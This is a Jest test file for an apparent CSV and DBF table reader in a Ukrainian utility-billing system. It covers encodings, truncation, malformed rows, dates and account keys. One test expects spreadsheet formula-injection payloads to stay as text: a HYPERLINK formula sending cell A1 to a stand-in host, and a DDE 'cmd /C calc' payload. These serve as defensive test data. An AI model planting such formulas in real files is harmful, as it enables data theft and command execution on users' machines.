import { describe, expect, it } from '@jest/globals'
import { readTable } from '../../../../core/exchange/formats/read-table.ts'
import { parseAccount, parseDate, parseInteger } from '../../../../core/exchange/formats/fields.ts'
import { plainDate } from '../../../../core/period.ts'
import { column, fixture, inPieces, readAll, total, totals } from './fixture.ts'

// [file, encoding, column of "first" and "last", column of the file ← name of the sum]
const FILES: [
  file: string,
  encoding: string,
  key: string | null,
  renamed?: Record<string, string>,
][] = [
  ['accounts.csv', 'utf-8', 'Особовий рахунок', { 'Загальна площа (сотих)': 'Загальна площа' }],
  [
    'accounts-cp1251.csv',
    'windows-1251',
    'Особовий рахунок',
    { 'Загальна площа (сотих)': 'Загальна площа' },
  ],
  [
    'accounts-town.dbf',
    'windows-1251',
    'RAH',
    { 'Загальна площа (сотих)': 'PLZAG', 'Сальдо на 01.11.2026': 'SALDO' },
  ],
  ['accounts.dbf', 'windows-1251', 'LIC_SCHET'],
  ['providers.csv', 'utf-8', null],
  ['services.csv', 'utf-8', null],
  ['tariffs.csv', 'utf-8', null],
  ['readings.csv', 'utf-8', '№ лічильника'],
  ['meters.dbf', 'cp866', null],
  ['charges.dbf', 'windows-1251', null],
  ['payments.dbf', 'windows-1251', 'EXTID'],
  ['payments-memo.dbf', 'windows-1251', null],
  ['subsidy/J000001.dbf', 'cp866', 'RASH'],
  ['subsidy/J000002.dbf', 'windows-1251', 'RASH'],
  ['subsidy/J000003.dbf', 'cp866', 'RASH'],
  ['subsidy/2pilga-55101018-202610.dbf', 'cp866', null],
  ['subsidy/2pilga-55202042-202610.dbf', 'cp866', null],
  ['subsidy/2pilga-55303034-202610.dbf', 'cp866', null],
  ['vodokanal/infovodomer.dbf', 'windows-1251', null],
  ['vodokanal/nach.dbf', 'windows-1251', null],
  ['vodokanal/oplata.dbf', 'windows-1251', null],
  ['vodokanal/vfp-types.dbf', 'windows-1251', null],
]

/** Sums that `totals.json` keeps as they are, not in hundredths. */
const COUNTS = new Set(['POKPOCH', 'KOL', 'PH1', 'NPP', 'Показання'])

describe('a file of the town is read whole', () => {
  it.each(FILES)('%s', async (file, encoding, key, renamed = {}) => {
    const expected = totals[`isengard/${file}`]
    const table = await readAll(fixture(`isengard/${file}`))

    expect(table.errors).toEqual([])
    expect(table.encoding).toBe(encoding)
    expect(table.rows).toHaveLength(expected?.rows ?? -1)
    expect(table.deleted).toBe(expected?.deleted ?? 0)
    for (const [name, hundredths] of Object.entries(expected?.sums ?? {})) {
      const sum = total(table, renamed[name] ?? name)
      expect([name, sum]).toEqual([name, BigInt(hundredths) * (COUNTS.has(name) ? 100n : 1n)])
    }
    const keys = key ? column(table, key) : []
    expect([keys[0], keys.at(-1)]).toEqual([expected?.first, expected?.last])
  })

  it.each(['accounts-cp1251.csv', 'meters.dbf', 'vodokanal/vfp-types.dbf', 'readings.csv'])(
    '%s gives the same rows in pieces as at once',
    async (file) => {
      const bytes = fixture(`isengard/${file}`)
      const whole = await readAll(bytes)
      for (const size of [7, 1000, 65_537]) {
        const pieces = await readAll(inPieces(bytes, size))
        expect(pieces.rows).toEqual(whole.rows)
      }
    },
  )
})

describe('a broken or hostile file', () => {
  it.each([
    ['01-truncated.dbf', { code: 'file-cut', present: 53, expected: 126 }],
    ['02-wrong-record-length.dbf', { code: 'record-length-mismatch', stated: 67, needed: 74 }],
    [
      '06-mixed-encodings.csv',
      { code: 'mixed-encodings', lines: [12, 13, 14, 15, 16, 17, 18, 19, 20, 21] },
    ],
    ['11-empty.csv', { code: 'empty-file' }],
    ['12-html.xls', { code: 'unsupported-type', found: 'html' }],
    ['20-duplicate-heading.csv', { code: 'duplicate-heading', name: 'Сума', columns: [2, 4] }],
  ])('%s is refused', async (file, refusal) => {
    expect(await readTable(fixture(`bad/${file}`))).toEqual({ ok: false, ...refusal })
  })

  it('a cut stream of unknown size ends with the error, of known size is refused', async () => {
    const bytes = Buffer.concat([fixture('isengard/payments.dbf').subarray(0, 300_000)])
    const pieces = await readAll(inPieces(bytes, 50_000))
    expect(pieces.errors).toMatchObject([{ code: 'file-cut', present: 3699, expected: 9688 }])
    expect(pieces.rows).toHaveLength(3699)
    const known = await readTable(inPieces(bytes, 50_000), { size: bytes.length })
    expect(known).toEqual({ ok: false, code: 'file-cut', present: 3699, expected: 9688 })
  })

  it('04: a quote that never closes spoils its own line only', async () => {
    const table = await readAll(fixture('bad/04-unbalanced-quotes.csv'))
    expect(table.errors).toMatchObject([{ line: 8, code: 'unbalanced-quotes' }])
    expect(table.rows).toHaveLength(19)
    expect(total(table, 'Сума')).toBe(39424n)
  })

  it.each([
    ['05a-utf16le-bom.csv', 'utf-16le'],
    ['05b-utf16be-no-bom.csv', 'utf-16be'],
  ])('%s is read as %s', async (file, encoding) => {
    const table = await readAll(fixture(`bad/${file}`))
    expect(table.encoding).toBe(encoding)
    expect(table.columns).toEqual(['Особовий рахунок', 'ПІБ', 'Сума'])
    expect(table.rows).toHaveLength(20)
    expect(total(table, 'Сума')).toBe(47030n)
  })

  it('06: with a chosen encoding the lines of the other one are errors', async () => {
    const table = await readAll(fixture('bad/06-mixed-encodings.csv'), { encoding: 'windows-1251' })
    expect(table.errors.map(({ line, code }) => [line, code])).toEqual(
      [12, 13, 14, 15, 16, 17, 18, 19, 20, 21].map((line) => [line, 'wrong-encoding']),
    )
    expect(total(table, 'Сума')).toBe(31845n)
    const other = await readAll(fixture('bad/06-mixed-encodings.csv').subarray(0), {
      encoding: 'utf-8',
      headingLine: 12,
    })
    expect(other.rows).toHaveLength(9)
  })

  it('07: look-alike accounts are one account, a letter O among digits is reported', async () => {
    const table = await readAll(fixture('bad/07-lookalike-accounts.csv'))
    const keys = column(table, 'Особовий рахунок').map((text) => {
      const account = parseAccount(text)
      return account.ok ? account.value.key : account.code
    })
    const [bk, a7] = ['BK-12-005', '12A/7']
    const months = Array.from({ length: 4 }, () => '0030009M')
    expect(keys).toEqual([...months, bk, bk, bk, a7, a7, '101', '0101', 'suspicious-account'])
  })

  it('08: readings that are not whole numbers have their reasons', async () => {
    const table = await readAll(fixture('bad/08-negative-readings.csv'))
    const codes = column(table, 'Показання').map((text) => {
      const value = parseInteger(text, 8)
      return value.ok ? value.value : value.code
    })
    expect(codes).toEqual([
      'integer-negative',
      'integer-negative',
      'integer-fraction',
      'integer-unreadable',
      'integer-too-long',
      'integer-missing',
      'integer-unreadable',
      'integer-unreadable',
      'integer-unreadable',
      586,
      585,
      10,
    ])
  })

  it('09: only days that exist, by the profile', async () => {
    const table = await readAll(fixture('bad/09-impossible-dates.csv'))
    const latest = plainDate('2026-11-01')
    const days = column(table, 'Дата платежу').map((text) => {
      const day = parseDate(text, { latest })
      return day.ok ? day.value : day.code
    })
    expect(days).toEqual([
      'date-not-in-calendar',
      'date-not-in-calendar',
      '2024-02-29',
      'date-out-of-range',
      'date-not-in-calendar',
      'date-unreadable',
      'date-out-of-range',
      'date-unreadable',
      'date-time-invalid',
      'date-missing',
      'date-unreadable',
      'date-unreadable',
      'date-unreadable',
      '2026-10-05',
      'date-out-of-range',
      '2026-10-05',
    ])
  })

  it('13: formulas stay text, signs stay signs', async () => {
    const table = await readAll(fixture('bad/13-formula-injection.csv'))
    expect(table.errors).toEqual([])
    expect(table.delimiter).toBe(';')
    expect(table.rows).toHaveLength(12)
    expect(total(table, 'Сума')).toBe(-600n)
    expect(column(table, 'Телефон')[0]).toBe('+380005550000')
    const notes = column(table, 'Примітка')
    expect(notes[0]).toBe('=HYPERLINK("http://example.invalid/?x="&A1,"натисни")')
    expect(notes[1]).toBe("=cmd|' /C calc'!A0")
    expect(notes[5]).toBe('\t=1+1')
    expect(notes[6]).toBe('\r=1+1')
    expect(table.rows.at(-1)?.line).toBe(13)
  })

  it('16: invisible characters are removed with a warning', async () => {
    const table = await readAll(fixture('bad/16-control-chars.csv'))
    expect(table.errors).toEqual([])
    expect(table.rows).toHaveLength(11)
    expect(total(table, 'Сума')).toBe(55055n)
    const clean = table.rows.filter(({ cleaned }) => cleaned.length === 0)
    expect(clean.map(({ line }) => line)).toEqual([12])
    expect(table.rows[0]).toMatchObject({
      line: 2,
      cleaned: [1],
      cells: ['97', 'ТорбинецьІван', '50,00'],
    })
    expect(table.rows[0]?.raw).toBe('97;Торбинець␀Іван;50,00')
  })

  it.each([
    ['17-balance-mismatch.csv', 12],
    ['18-no-account-column.csv', 5],
    ['19-header-only.csv', 0],
  ])('%s is a sound table of %i rows', async (file, rows) => {
    const table = await readAll(fixture(`bad/${file}`))
    expect(table.errors).toEqual([])
    expect(table.rows).toHaveLength(rows)
  })

  it('21: a row with more or fewer cells than columns is an error', async () => {
    const table = await readAll(fixture('bad/21-ragged-rows.csv'))
    expect(table.errors).toMatchObject([
      { line: 4, code: 'ragged-row', fields: 2, expected: 3 },
      { line: 6, code: 'ragged-row', fields: 5, expected: 3 },
    ])
    expect(table.rows).toHaveLength(4)
  })
})

it('the reader closes a source it refuses or leaves', async () => {
  for (const bytes of [
    Buffer.from('PK\x03\x04'),
    Buffer.from('a;a\n1;2\n'),
    fixture('isengard/readings.csv'),
    fixture('isengard/charges.dbf'),
  ]) {
    let closed = false
    const source = (async function* () {
      try {
        yield* inPieces(bytes, 10_000)
      } finally {
        closed = true
      }
    })()
    const table = await readTable(source)
    if (table.ok) for await (const row of table.value.rows) if (row) break
    expect(closed).toBe(true)
  }
})
